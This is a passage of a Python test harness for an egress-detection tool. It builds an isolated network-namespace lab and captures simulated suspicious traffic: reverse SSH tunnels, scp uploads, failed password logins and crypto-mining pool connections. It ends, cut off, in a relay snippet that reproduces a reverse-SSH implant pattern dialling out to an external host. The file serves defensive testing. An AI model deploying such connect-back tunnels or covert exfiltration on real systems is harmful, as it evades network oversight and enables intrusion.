#!/usr/bin/env python3
"""egresswatch traffic lab: real SSH sessions in network namespaces, captured.

Topology (all inside namespaces this script creates; nothing in the host's
own namespace is touched):

    cluster 10.10.0.10 --c0-- router --x0-- external      198.51.100.10
                                     --i0-- internal-git  10.20.0.10
                                     --b0-- bastion       203.0.113.10

The capture runs on the router's cluster-facing port `c0`, so it sees what
an egress span port sees: Ethernet frames of everything the cluster sends
and receives, and nothing else. Offloads are off on every veth so segments
are wire-sized (MTU 1500). Each scenario gets its own pcap; the manifest
says what happened in it (the ground truth) and what the capture shows
(5-tuple, banners, negotiated algorithms, read back from the pcap).

Run as root: `tests/lab/run.sh OUTDIR [SCENARIO...]`; `--list` names them.
Everything started is stopped, and every namespace, veth and test user
removed, on success, failure, timeout or signal.
"""

import argparse
import csv
import datetime
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import pcapinfo  # noqa: E402
import services  # noqa: E402
from ptydrive import DriveError, PtySession, seeded  # noqa: E402

PREFIX = "ew"
ROLES = {"cluster": "c", "router": "r", "external": "x", "internal": "i", "bastion": "b", "services": "s"}
# role -> (address, /24 prefix, router port name, MAC of the host, MAC of the router port)
HOSTS = {
    "cluster": ("10.10.0.10", "10.10.0", "c0", "02:00:0a:0a:00:0a", "02:00:0a:0a:00:01"),
    "internal": ("10.20.0.10", "10.20.0", "i0", "02:00:0a:14:00:0a", "02:00:0a:14:00:01"),
    "external": ("198.51.100.10", "198.51.100", "x0", "02:00:c6:33:64:0a", "02:00:c6:33:64:01"),
    "bastion": ("203.0.113.10", "203.0.113", "b0", "02:00:cb:00:71:0a", "02:00:cb:00:71:01"),
    "services": ("192.0.2.10", "192.0.2", "s0", "02:00:c0:00:02:0a", "02:00:c0:00:02:01"),
}
# Further addresses of the application servers (issue: app-layer identification).
SERVICE_ADDRS = {
    "www": "192.0.2.10",  # HTTPS (openssl s_server) on 443, HTTP on 80
    "split": "192.0.2.11",  # HTTPS behind a 300-byte path MTU: ClientHellos span segments
    "pool": "192.0.2.20",  # mining pool: Stratum 3333, XMRig login on 443 (plain TCP), ethproxy 8008
    "tlspool": "192.0.2.21",  # mining pool behind TLS on 443, under a name on the pool list
    "api": "192.0.2.30",  # benign JSON-RPC service with a `login` method on 8080
}
RESOLVERS = {"internal": ("internal", "10.20.0.53"), "external": ("external", "198.51.100.53")}
# What the lab's resolvers answer (only inside the lab's namespaces).
DNS_RECORDS = {
    "www.example-lab.test": "192.0.2.10",
    "edge.example-lab.test": "192.0.2.10",
    "a.shared-lab.test": "192.0.2.10",
    "b.shared-lab.test": "192.0.2.10",
    "split.example-lab.test": "192.0.2.11",
    "pool.example-lab.test": "192.0.2.20",
    "gulf.moneroocean.stream": "192.0.2.21",
    "api.example-lab.test": "192.0.2.30",
}
DNS_CNAMES = {"cdn.example-lab.test": "edge.example-lab.test"}
DNS_TTL = 300
CAPTURE_PORT = "c0"
SSH_PORTS = {"cluster": [22], "external": [22, 443, 2222], "internal": [22], "bastion": [22]}
SPLIT_PATH_MTU = 300
DROPBEAR_PORT = 2022  # cluster-side Dropbear server, loopback only
HTTP_PORT = 8000  # external-side web server, loopback only (reached through -L / -D)
ROLE_REVERSAL_PORT = 8443

# Cipher suites of the matrix: id -> (cipher, MAC or None for AEAD).
SUITES = {
    "chacha20": ("chacha20-poly1305@openssh.com", None),
    "aes128gcm": ("aes128-gcm@openssh.com", None),
    "aes128ctr-etm": ("aes128-ctr", "hmac-sha2-256-etm@openssh.com"),
    "aes256ctr-hmac": ("aes256-ctr", "hmac-sha2-256"),
    "aes128ctr-hmac": ("aes128-ctr", "hmac-sha2-256"),
}
PASSWORD = "lab-Pass-7461"
WRONG_PASSWORDS = ["letmein1", "Passw0rd!", "lab-pass-7416"]
PROMPT = r"\[lab\][$#] "
COMMANDS = [
    "id",
    "uname -a",
    "hostname",
    "ls -la",
    "pwd",
    "head -3 /etc/os-release",
    "ps -o pid,tty,cmd",
    "df -h /",
    "ls /tmp",
    "nvidia-smi",
    "echo $PATH",
    "free -m",
    "whoami",
    "cat /proc/loadavg",
]


class LabError(Exception):
    pass


class ScenarioTimeout(Exception):
    pass


def log(msg):
    print(f"[lab {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def run(argv, check=True, timeout=60, env=None, input_text=None):
    res = subprocess.run(
        argv,
        stdin=subprocess.DEVNULL if input_text is None else None,
        input=input_text,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
    )
    if check and res.returncode != 0:
        raise LabError(f"{' '.join(argv)} failed ({res.returncode}): {res.stderr.strip()[-500:]}")
    return res


def pid_alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


class Lab:
    """The topology, the servers in it and the cleanup of all of it."""

    def __init__(self, outdir, seed):
        self.pid = os.getpid()
        self.tag = f"{PREFIX}{self.pid}"
        self.ns = {role: f"{self.tag}{c}" for role, c in ROLES.items()}
        self.outdir = outdir
        self.logdir = os.path.join(outdir, "logs")
        self.seed = seed
        self.user = f"ewl{self.pid}"
        self.created_ns = []
        self.user_created = False
        self.made_privsep = False
        self.made_etc_netns = False
        self.etc_netns_dir = None
        self.procs = []
        self.workdir = None
        self.env = {
            k: v for k, v in os.environ.items() if not k.startswith("SSH_") and k != "DISPLAY"
        }
        self.env.update({"LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "TERM": "xterm"})

    # ---- helpers -------------------------------------------------------
    def nsx(self, role, argv):
        return ["ip", "netns", "exec", self.ns[role]] + list(argv)

    def ns_run(self, role, argv, **kw):
        return run(self.nsx(role, argv), env=self.env, **kw)

    def spawn(self, role, argv, label, owner=None):
        path = os.path.join(self.logdir, f"{label}.log")
        with open(path, "ab") as logf:
            p = subprocess.Popen(
                self.nsx(role, argv),
                stdin=subprocess.DEVNULL,
                stdout=logf,
                stderr=subprocess.STDOUT,
                start_new_session=True,
                env=self.env,
            )
        p.label = label
        self.procs.append(p)
        if owner is not None:
            owner.append(p)
        return p

    def stop(self, p, grace=3.0):
        """Ends a process we started (its own process group), politely first."""
        for sig in (signal.SIGTERM, signal.SIGKILL):
            if p.poll() is not None:
                break
            try:
                os.killpg(p.pid, sig)
            except ProcessLookupError:
                break
            try:
                p.wait(timeout=grace)
            except subprocess.TimeoutExpired:
                continue
        if p in self.procs:
            self.procs.remove(p)
        return p.returncode

    def listening(self, role, port, addr=None, udp=False):
        out = self.ns_run(role, ["ss", "-lunH" if udp else "-ltnH"], check=False).stdout
        for line in out.splitlines():
            cols = line.split()
            if len(cols) >= 4 and cols[3].endswith(f":{port}"):
                if addr is None or cols[3].startswith(addr):
                    return True
        return False

    def wait_listen(self, role, port, timeout=10.0, addr=None, udp=False):
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            if self.listening(role, port, addr, udp):
                return
            time.sleep(0.1)
        raise LabError(f"nothing listens on {role}:{port} after {timeout}s")

    # ---- setup ---------------------------------------------------------
    def cleanup_stale(self):
        """Removes what earlier runs of this harness left behind when killed
        with SIGKILL: namespaces and test users named after a PID that no
        longer runs."""
        out = run(["ip", "netns", "list"], check=False).stdout
        rx = re.compile(rf"^{PREFIX}(\d+)[{''.join(ROLES.values())}]$")
        for line in out.splitlines():
            name = line.split()[0] if line.split() else ""
            m = rx.match(name)
            if m and not pid_alive(int(m.group(1))):
                log(f"removing stale namespace {name}")
                for pid in run(["ip", "netns", "pids", name], check=False).stdout.split():
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except (ProcessLookupError, ValueError):
                        pass
                run(["ip", "netns", "del", name], check=False)
        for d in os.listdir("/etc/netns") if os.path.isdir("/etc/netns") else []:
            m = rx.match(d)
            if m and not pid_alive(int(m.group(1))):
                shutil.rmtree(os.path.join("/etc/netns", d), ignore_errors=True)
        tmp = tempfile.gettempdir()
        for d in os.listdir(tmp):
            m = re.match(r"^ewlab-(\d+)-", d)
            if m and not pid_alive(int(m.group(1))):
                log(f"removing stale work dir {d}")
                shutil.rmtree(os.path.join(tmp, d), ignore_errors=True)
        with open("/etc/passwd") as f:
            for line in f:
                name = line.split(":", 1)[0]
                m = re.match(r"^ewl(\d+)$", name)
                if m and not pid_alive(int(m.group(1))):
                    log(f"removing stale test user {name}")
                    run(["userdel", name], check=False)

    def setup(self):
        os.makedirs(self.logdir, exist_ok=True)
        self.workdir = tempfile.mkdtemp(prefix=f"ewlab-{self.pid}-")
        os.chmod(self.workdir, 0o755)
        self.setup_topology()
        self.setup_user()
        self.setup_keys()
        self.setup_data()
        self.start_servers()

    def setup_topology(self):
        for role, name in self.ns.items():
            run(["ip", "netns", "add", name])
            self.created_ns.append(name)
            self.ns_run(role, ["ip", "link", "set", "lo", "up"])
            for key in ("all", "default"):
                self.ns_run(role, ["sysctl", "-qw", f"net.ipv6.conf.{key}.disable_ipv6=1"])
        self.ns_run("router", ["sysctl", "-qw", "net.ipv4.ip_forward=1"])
        for role, (addr, net, rport, hmac, rmac) in HOSTS.items():
            run(
                [
                    "ip", "link", "add", "name", "eth0", "netns", self.ns[role],
                    "address", hmac, "type", "veth",
                    "peer", "name", rport, "netns", self.ns["router"], "address", rmac,
                ]
            )
            self.ns_run(role, ["ip", "addr", "add", f"{addr}/24", "dev", "eth0"])
            self.ns_run("router", ["ip", "addr", "add", f"{net}.1/24", "dev", rport])
            for r, dev in ((role, "eth0"), ("router", rport)):
                # Wire-sized segments and correct checksums in the capture.
                self.ns_run(r, ["ethtool", "-K", dev, "gro", "off", "gso", "off", "tso", "off"])
                self.ns_run(r, ["ethtool", "-K", dev, "tx", "off", "rx", "off"], check=False)
                self.ns_run(r, ["ip", "link", "set", dev, "up"])
            self.ns_run(role, ["ip", "route", "add", "default", "via", f"{net}.1"])
        for addr in SERVICE_ADDRS.values():
            if addr != HOSTS["services"][0]:
                self.ns_run("services", ["ip", "addr", "add", f"{addr}/24", "dev", "eth0"])
        for role, addr in RESOLVERS.values():
            self.ns_run(role, ["ip", "addr", "add", f"{addr}/24", "dev", "eth0"])
        # A small path MTU towards one server, so TLS ClientHellos are split.
        self.ns_run("cluster", ["ip", "route", "add", f"{SERVICE_ADDRS['split']}/32", "via", "10.10.0.1",
                                "mtu", "lock", str(SPLIT_PATH_MTU)])
        self.set_resolver("internal")

    def set_resolver(self, which):
        """The cluster's resolv.conf (ip netns exec bind-mounts /etc/netns/NS/)."""
        if not os.path.isdir("/etc/netns"):
            os.makedirs("/etc/netns")
            self.made_etc_netns = True
        d = f"/etc/netns/{self.ns['cluster']}"
        os.makedirs(d, exist_ok=True)
        self.etc_netns_dir = d
        with open(f"{d}/resolv.conf", "w") as f:
            f.write(f"nameserver {RESOLVERS[which][1]}\noptions timeout:2 attempts:2\n")

    def setup_user(self):
        home = os.path.join(self.workdir, "home")
        os.makedirs(home)
        run(["useradd", "-M", "-d", home, "-s", "/bin/bash", "-c", "egresswatch lab", self.user])
        self.user_created = True
        run(["chpasswd"], input_text=f"{self.user}:{PASSWORD}\n")
        with open(os.path.join(home, ".bash_profile"), "w") as f:
            f.write("PS1='[lab]\\$ '\nexport PS1\nHISTFILE=/dev/null\n")
        run(["chown", "-R", f"{self.user}:", home])

    def setup_keys(self):
        w = self.workdir
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "lab-client", "-f", f"{w}/client_ed25519"])
        run(["dropbearkey", "-t", "ed25519", "-f", f"{w}/client_dropbear"])
        db_pub = [
            line
            for line in run(["dropbearkey", "-y", "-f", f"{w}/client_dropbear"]).stdout.splitlines()
            if line.startswith("ssh-")
        ]
        with open(f"{w}/client_ed25519.pub") as f:
            keys = f.read().strip() + "\n" + "\n".join(db_pub) + "\n"
        with open(f"{w}/authorized_keys", "w") as f:
            f.write(keys)
        os.chmod(f"{w}/authorized_keys", 0o644)
        for role in SSH_PORTS:
            d = f"{w}/{role}"
            os.makedirs(d)
            for t, extra in (("ed25519", []), ("ecdsa", []), ("rsa", ["-b", "3072"])):
                run(["ssh-keygen", "-q", "-t", t, *extra, "-N", "", "-f", f"{d}/ssh_host_{t}_key"])
        for t in ("ed25519", "ecdsa", "rsa"):
            run(["dropbearkey", "-t", t, "-f", f"{w}/cluster/dropbear_{t}_host_key"])
        for suite_id, (cipher, mac) in SUITES.items():
            self.write_client_config(suite_id, cipher, mac)

    def write_client_config(self, suite_id, cipher, mac):
        lines = [
            "Host *",
            f"  User {self.user}",
            f"  IdentityFile {self.workdir}/client_ed25519",
            "  IdentitiesOnly yes",
            "  IdentityAgent none",
            "  StrictHostKeyChecking no",
            "  UserKnownHostsFile /dev/null",
            "  GlobalKnownHostsFile /dev/null",
            "  UpdateHostKeys no",
            "  LogLevel ERROR",
            "  ConnectTimeout 5",
            "  ControlMaster no",
            f"  Ciphers {cipher}",
        ]
        if mac:
            lines.append(f"  MACs {mac}")
        with open(self.client_config(suite_id), "w") as f:
            f.write("\n".join(lines) + "\n")

    def client_config(self, suite_id):
        return f"{self.workdir}/ssh_config.{suite_id}"

    def setup_data(self):
        w = self.workdir
        rng = random.Random(self.seed)
        os.makedirs(f"{w}/data")
        with open(f"{w}/data/upload.bin", "wb") as f:
            f.write(rng.randbytes(2 * 1024 * 1024))
        home = f"{w}/home"
        with open(f"{home}/download.bin", "wb") as f:
            f.write(rng.randbytes(2 * 1024 * 1024))
        web = f"{w}/web"
        os.makedirs(web)
        with open(f"{web}/index.html", "w") as f:
            f.write("<html><body><h1>lab</h1>" + "<p>row</p>" * 200 + "</body></html>\n")
        with open(f"{web}/blob.bin", "wb") as f:
            f.write(rng.randbytes(512 * 1024))
        with open(f"{web}/status.json", "w") as f:
            f.write(json.dumps({"ok": True, "items": list(range(50))}) + "\n")
        repo = f"{w}/git/src"
        os.makedirs(repo)
        genv = dict(self.env, GIT_AUTHOR_NAME="lab", GIT_AUTHOR_EMAIL="lab@example.org",
                    GIT_COMMITTER_NAME="lab", GIT_COMMITTER_EMAIL="lab@example.org")
        run(["git", "init", "-q", repo], env=genv)
        for i in range(3):
            with open(f"{repo}/file{i}.txt", "w") as f:
                f.write("".join(f"line {i} {j} {rng.random()}\n" for j in range(400)))
            run(["git", "-C", repo, "add", "."], env=genv)
            run(["git", "-C", repo, "commit", "-q", "-m", f"commit {i}"], env=genv)
        run(["git", "clone", "-q", "--bare", repo, f"{w}/git/repo.git"], env=genv)
        run(["chown", "-R", f"{self.user}:", f"{w}/git/repo.git", home])

    def sshd_config(self, role):
        d = f"{self.workdir}/{role}"
        lines = [f"Port {p}" for p in SSH_PORTS[role]] + [
            "ListenAddress 0.0.0.0",
            f"HostKey {d}/ssh_host_ed25519_key",
            f"HostKey {d}/ssh_host_ecdsa_key",
            f"HostKey {d}/ssh_host_rsa_key",
            f"PidFile {d}/sshd.pid",
            "UsePAM no",
            "PasswordAuthentication yes",
            "KbdInteractiveAuthentication no",
            "PubkeyAuthentication yes",
            f"AuthorizedKeysFile {self.workdir}/authorized_keys",
            "StrictModes no",
            "PermitRootLogin no",
            f"AllowUsers {self.user}",
            "AllowTcpForwarding yes",
            "GatewayPorts no",
            "X11Forwarding no",
            "PrintMotd no",
            "PrintLastLog no",
            "UseDNS no",
            "MaxStartups 50",
            "LogLevel VERBOSE",
            "Subsystem sftp /usr/lib/openssh/sftp-server",
        ]
        path = f"{d}/sshd_config"
        with open(path, "w") as f:
            f.write("\n".join(lines) + "\n")
        return path

    def start_servers(self):
        if not os.path.isdir("/run/sshd"):
            os.makedirs("/run/sshd", mode=0o755)
            self.made_privsep = True
        for role in SSH_PORTS:
            cfg = self.sshd_config(role)
            run(["/usr/sbin/sshd", "-t", "-f", cfg])
            self.spawn(role, ["/usr/sbin/sshd", "-D", "-e", "-f", cfg], f"sshd-{role}")
        d = f"{self.workdir}/cluster"
        self.spawn(
            "cluster",
            [
                "dropbear", "-F", "-E", "-m", "-w", "-p", f"127.0.0.1:{DROPBEAR_PORT}",
                "-P", f"{d}/dropbear.pid",
                "-r", f"{d}/dropbear_ed25519_host_key",
                "-r", f"{d}/dropbear_ecdsa_host_key",
                "-r", f"{d}/dropbear_rsa_host_key",
            ],
            "dropbear-cluster",
        )
        self.spawn(
            "external",
            [sys.executable, "-m", "http.server", str(HTTP_PORT), "--bind", "127.0.0.1",
             "--directory", f"{self.workdir}/web"],
            "http-external",
        )
        self.start_app_servers()
        for role, ports in SSH_PORTS.items():
            for p in ports:
                self.wait_listen(role, p)
        self.wait_listen("cluster", DROPBEAR_PORT)
        self.wait_listen("external", HTTP_PORT)
        # The routed path works end to end (this probe is not captured).
        probe = "import socket,sys; socket.create_connection((sys.argv[1], 22), 3).close()"
        for role in ("external", "internal", "bastion"):
            self.ns_run("cluster", [sys.executable, "-c", probe, HOSTS[role][0]], timeout=10)

    def start_app_servers(self):
        w = self.workdir
        d = f"{w}/services"
        os.makedirs(d)
        for name in ("www.example-lab.test", "gulf.moneroocean.stream"):
            run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", f"/CN={name}",
                 "-addext", f"subjectAltName=DNS:{name},DNS:*.example-lab.test,DNS:*.shared-lab.test",
                 "-keyout", f"{d}/{name}.key", "-out", f"{d}/{name}.crt"])
        www = f"{d}/www.example-lab.test"
        for key in ("www", "split"):
            self.spawn("services", ["openssl", "s_server", "-accept", f"{SERVICE_ADDRS[key]}:443",
                                    "-cert", f"{www}.crt", "-key", f"{www}.key", "-www", "-quiet"],
                       f"https-{key}")
        self.spawn("services", [sys.executable, "-m", "http.server", "80", "--bind", SERVICE_ADDRS["www"],
                                "--directory", f"{w}/web"], "http-www")
        svc = os.path.join(HERE, "services.py")
        pool = SERVICE_ADDRS["pool"]
        for port in (3333, 443, 8008):
            self.spawn("services", [sys.executable, svc, "pool", pool, str(port)], f"pool-{port}")
        pool_cert = f"{d}/gulf.moneroocean.stream"
        self.spawn("services", [sys.executable, svc, "pool", SERVICE_ADDRS["tlspool"], "443",
                                "--tls", f"{pool_cert}.crt", f"{pool_cert}.key"], "pool-tls-443")
        self.spawn("services", [sys.executable, svc, "jsonrpc", SERVICE_ADDRS["api"], "8080"], "jsonrpc-8080")
        for which, (role, addr) in RESOLVERS.items():
            argv = ["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--no-poll",
                    "--bind-interfaces", f"--listen-address={addr}", "--except-interface=lo", "--user=root",
                    f"--pid-file={w}/dnsmasq-{which}.pid", f"--local-ttl={DNS_TTL}", "--log-queries",
                    "--log-facility=-", "--conf-file=/dev/null"]
            argv += [f"--host-record={name},{ip}" for name, ip in DNS_RECORDS.items()]
            argv += [f"--cname={alias},{target}" for alias, target in DNS_CNAMES.items()]
            # Authoritative for these zones: no-data answers (e.g. AAAA) instead of REFUSED.
            zones = sorted({name.split(".", 1)[1] for name in list(DNS_RECORDS) + list(DNS_CNAMES)})
            argv += [f"--local=/{z}/" for z in zones]
            self.spawn(role, argv, f"dnsmasq-{which}")
        for key, port in (("www", 443), ("split", 443), ("www", 80), ("pool", 3333), ("pool", 443),
                          ("pool", 8008), ("tlspool", 443), ("api", 8080)):
            self.wait_listen("services", port, addr=SERVICE_ADDRS[key])
        for role, addr in RESOLVERS.values():
            self.wait_listen(role, 53, addr=addr, udp=True)

    # ---- capture -------------------------------------------------------
    def start_capture(self, pcap, label):
        err = os.path.join(self.logdir, f"{label}.tcpdump.log")
        if os.path.exists(err):
            os.unlink(err)
        p = self.spawn(
            "router",
            # --immediate-mode: without it libpcap hands packets over in blocks
            # and the last ones (the connection's end) are lost at SIGINT.
            # -B 32768: a 32 MiB kernel buffer (the default 2 MiB overflows
            # during the scp bulk transfer when the machine is loaded).
            ["tcpdump", "-i", CAPTURE_PORT, "-n", "-s", "0", "-U", "--immediate-mode", "-B", "32768",
             "-Z", "root", "-w", pcap],
            f"{label}.tcpdump",
        )
        end = time.monotonic() + 10
        while time.monotonic() < end:
            with open(err, errors="replace") as f:
                if "listening on" in f.read():
                    time.sleep(0.2)
                    return p
            if p.poll() is not None:
                break
            time.sleep(0.05)
        self.stop(p)
        raise LabError(f"tcpdump did not start, see {err}")

    def stop_capture(self, p, label):
        try:
            os.killpg(p.pid, signal.SIGINT)
        except ProcessLookupError:
            pass
        try:
            p.wait(timeout=5)
        except subprocess.TimeoutExpired:
            pass
        self.stop(p)
        with open(os.path.join(self.logdir, f"{label}.tcpdump.log"), errors="replace") as f:
            text = f.read()
        stats = {}
        for key in ("captured", "received by filter", "dropped by kernel"):
            m = re.search(rf"(\d+) packets? {key}", text)
            stats[key.replace(" ", "_")] = int(m.group(1)) if m else None
        return stats

    def settle(self, timeout=4.0):
        """Waits until the cluster has no TCP connection left open to the outside."""
        states = ["established", "syn-sent", "syn-recv", "fin-wait-1", "fin-wait-2",
                  "close-wait", "last-ack", "closing"]
        argv = ["ss", "-tnH"]
        for s in states:
            argv += ["state", s]
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            out = self.ns_run("cluster", argv, check=False).stdout
            open_ = [ln for ln in out.splitlines() if "127.0.0.1" not in ln]
            if not open_:
                break
            time.sleep(0.1)
        time.sleep(0.3)

    # ---- teardown ------------------------------------------------------
    def cleanup(self):
        for p in list(self.procs):
            try:
                self.stop(p, grace=2.0)
            except Exception as e:  # keep cleaning up whatever happens
                log(f"cleanup: stopping {getattr(p, 'label', p.pid)}: {e}")
        for name in list(self.created_ns):
            # Whatever still runs in our namespaces was started by this run
            # (login shells, sshd session children, proxy helpers).
            for pid in run(["ip", "netns", "pids", name], check=False).stdout.split():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
        for name in list(self.created_ns):
            run(["ip", "netns", "del", name], check=False)
            self.created_ns.remove(name)
        if self.user_created:
            for _ in range(20):
                if run(["userdel", self.user], check=False).returncode in (0, 6):
                    break
                time.sleep(0.1)
            self.user_created = False
        if self.etc_netns_dir:
            shutil.rmtree(self.etc_netns_dir, ignore_errors=True)
            self.etc_netns_dir = None
        if self.made_etc_netns:
            try:
                os.rmdir("/etc/netns")
            except OSError:
                pass
            self.made_etc_netns = False
        if self.made_privsep:
            try:
                os.rmdir("/run/sshd")
            except OSError:
                pass
            self.made_privsep = False
        if self.workdir and os.path.isdir(self.workdir):
            shutil.rmtree(self.workdir, ignore_errors=True)
        self.workdir = None


class Ctx:
    """What one scenario runs: its processes, its pty sessions, its randomness."""

    def __init__(self, lab, sc):
        self.lab = lab
        self.sc = sc
        self.rng = seeded(lab.seed, sc["name"])
        self.procs = []
        self.ptys = []
        self.typed = []
        self.transcript = os.path.join(lab.logdir, f"{sc['name']}.transcript.txt")
        if os.path.exists(self.transcript):
            os.unlink(self.transcript)
        self.fwd_port = 10000 + (sc["index"] % 5000)

    def ssh(self, suite, dest_role=None, host=None, port=22, password=False, opts=()):
        host = host or HOSTS[dest_role][0]
        argv = ["ssh", "-F", self.lab.client_config(suite), "-p", str(port)]
        if password:
            argv += ["-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password",
                     "-o", "NumberOfPasswordPrompts=3"]
        return argv + list(opts) + [f"{self.lab.user}@{host}"]

    def spawn(self, role, argv, label):
        return self.lab.spawn(role, argv, f"{self.sc['name']}.{label}", owner=self.procs)

    def pty(self, role, argv):
        with open(self.transcript, "a") as f:
            f.write(f"\n==== [{role}] {' '.join(argv)}\n")
        s = PtySession(self.lab.nsx(role, argv), self.rng, self.transcript, env=self.lab.env)
        self.ptys.append(s)
        return s

    def sleep(self, lo, hi=None):
        time.sleep(lo if hi is None else self.rng.uniform(lo, hi))

    def password(self, s, pw):
        s.expect(r"[Pp]assword: ?", 15)
        s.think(0.3, 0.8)
        s.line(pw)

    def shell_session(self, s, n_commands=4):
        """Waits for the prompt, types a few commands as a person would, exits."""
        s.expect(PROMPT, 15)
        cmds = self.rng.sample(COMMANDS, n_commands)
        for c in cmds:
            s.think()
            s.line(c)
            self.typed.append(c)
            s.expect(PROMPT, 15)
        s.think()
        s.line("exit")
        self.typed.append("exit")
        code = s.wait(10)
        if code != 0:
            raise LabError(f"interactive session ended with {code}")

    def failed_login(self, s):
        for pw in WRONG_PASSWORDS:
            self.password(s, pw)
        s.expect(r"Permission denied", 15)
        code = s.wait(10)
        if code == 0:
            raise LabError("login with wrong passwords succeeded")

    def run_in(self, role, argv, timeout=30):
        res = self.lab.ns_run(role, argv, check=False, timeout=timeout)
        with open(os.path.join(self.lab.logdir, f"{self.sc['name']}.cmd.log"), "a") as f:
            f.write(f"$ {' '.join(argv)}\n{res.stdout}{res.stderr}(exit {res.returncode})\n")
        if res.returncode != 0:
            raise LabError(f"{argv[0]} failed with {res.returncode}: {res.stderr.strip()[-300:]}")
        return res

    def close(self):
        for s in self.ptys:
            s.close()
        for p in reversed(self.procs):
            self.lab.stop(p)


# ---- scenarios ---------------------------------------------------------------
# Each takes a Ctx and its parameters and drives real programs. The truth the
# manifest states comes from the scenario's definition in catalog().


def sc_fwd_interactive(ctx, suite, port=22, password=False):
    s = ctx.pty("cluster", ctx.ssh(suite, "external", port=port, password=password))
    if password:
        ctx.password(s, PASSWORD)
    ctx.shell_session(s)


def sc_fwd_auth_fail(ctx, suite):
    s = ctx.pty("cluster", ctx.ssh(suite, "external", password=True))
    ctx.failed_login(s)


def outer_reverse(ctx, suite, target_port, keepalive, client):
    fwd = f"{ctx.fwd_port}:127.0.0.1:{target_port}"
    if client == "dropbear":
        cipher, mac = SUITES[suite]
        argv = ["dbclient", "-y", "-y", "-i", f"{ctx.lab.workdir}/client_dropbear", "-N",
                "-R", fwd, "-c", cipher, "-m", mac or "hmac-sha2-256"]
        if keepalive:
            argv += ["-K", "2"]
        argv.append(f"{ctx.lab.user}@{HOSTS['external'][0]}")
    else:
        opts = ["-N", "-R", fwd, "-o", "ExitOnForwardFailure=yes"]
        if keepalive:
            opts += ["-o", "ServerAliveInterval=2"]
        argv = ctx.ssh(suite, "external", opts=opts)
    p = ctx.spawn("cluster", argv, "outer")
    ctx.lab.wait_listen("external", ctx.fwd_port)
    return p


def sc_reverse(ctx, suite, mode, inner_suite=None, client="openssh", inner_target="openssh"):
    """`ssh -N -R` from the cluster; then, from the external host, a login
    back through the tunnel (mode ok / fail) or nothing but keepalives (idle)."""
    target_port = 22 if inner_target == "openssh" else DROPBEAR_PORT
    outer = outer_reverse(ctx, suite, target_port, keepalive=(mode == "idle"), client=client)
    if mode == "idle":
        ctx.sleep(15)
    else:
        ctx.sleep(1.0, 2.0)
        inner = ctx.ssh(inner_suite or suite, host="127.0.0.1", port=ctx.fwd_port, password=True)
        s = ctx.pty("external", inner)
        if mode == "ok":
            ctx.password(s, PASSWORD)
            ctx.shell_session(s)
        else:
            ctx.failed_login(s)
        ctx.sleep(0.8, 1.5)
    if outer.poll() is not None:
        raise LabError(f"outer tunnel client ended early ({outer.returncode})")
    ctx.lab.stop(outer)


def sc_local_forward(ctx, suite):
    p = ctx.spawn("cluster", ctx.ssh(suite, "external", opts=["-N", "-L", f"8080:127.0.0.1:{HTTP_PORT}"]), "outer")
    ctx.lab.wait_listen("cluster", 8080)
    for path in ("index.html", "blob.bin", "status.json"):
        ctx.sleep(0.5, 1.5)
        ctx.run_in("cluster", ["curl", "-sS", "-o", "/dev/null", f"http://127.0.0.1:8080/{path}"])
    ctx.sleep(0.5)
    ctx.lab.stop(p)


def sc_dynamic_forward(ctx, suite):
    p = ctx.spawn("cluster", ctx.ssh(suite, "external", opts=["-N", "-D", "1080"]), "outer")
    ctx.lab.wait_listen("cluster", 1080)
    for path in ("index.html", "blob.bin", "status.json"):
        ctx.sleep(0.5, 1.5)
        ctx.run_in("cluster", ["curl", "-sS", "-o", "/dev/null", "--socks5-hostname", "127.0.0.1:1080",
                               f"http://127.0.0.1:{HTTP_PORT}/{path}"])
    ctx.sleep(0.5)
    ctx.lab.stop(p)


def sc_proxyjump(ctx, suite):
    jump = f"{ctx.lab.user}@{HOSTS['bastion'][0]}"
    s = ctx.pty("cluster", ctx.ssh(suite, "external", opts=["-J", jump]))
    ctx.shell_session(s)


def sc_scp(ctx, suite, direction, legacy=False):
    w = ctx.lab.workdir
    dest = f"{ctx.lab.user}@{HOSTS['external'][0]}"
    argv = ["scp", "-q", "-F", ctx.lab.client_config(suite)] + (["-O"] if legacy else [])
    if direction == "upload":
        argv += [f"{w}/data/upload.bin", f"{dest}:upload-{ctx.sc['index']}.bin"]
    else:
        argv += [f"{dest}:download.bin", f"{w}/data/download-{ctx.sc['index']}.bin"]
    ctx.sleep(0.3)
    ctx.run_in("cluster", argv, timeout=30)
    ctx.sleep(0.3)


def sc_internal_git(ctx, suite):
    w = ctx.lab.workdir
    dest = f"{w}/data/clone-{ctx.sc['index']}"
    url = f"{ctx.lab.user}@{HOSTS['internal'][0]}:{w}/git/repo.git"
    ctx.lab.env["GIT_SSH_COMMAND"] = f"ssh -F {ctx.lab.client_config(suite)}"
    try:
        ctx.run_in("cluster", ["git", "clone", "-q", url, dest], timeout=30)
    finally:
        del ctx.lab.env["GIT_SSH_COMMAND"]


RELAY = r"""
import os, socket, sys, select
mode = sys.argv[1]
if mode == "connect-exec":
    # The cluster side dials out and runs an SSH *server* on the socket
    # (the reverse-SSH implant pattern).
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), 5)
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.execv(sys.argv[4], sys.argv[4:])
else:
    # The external side accepts one connection and relays it to stdio
    # (used as the ssh client's ProxyCommand).
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", int(sys.argv[2])))
    ls.listen(1)
    c, _ = ls.accept()
    ls.close()
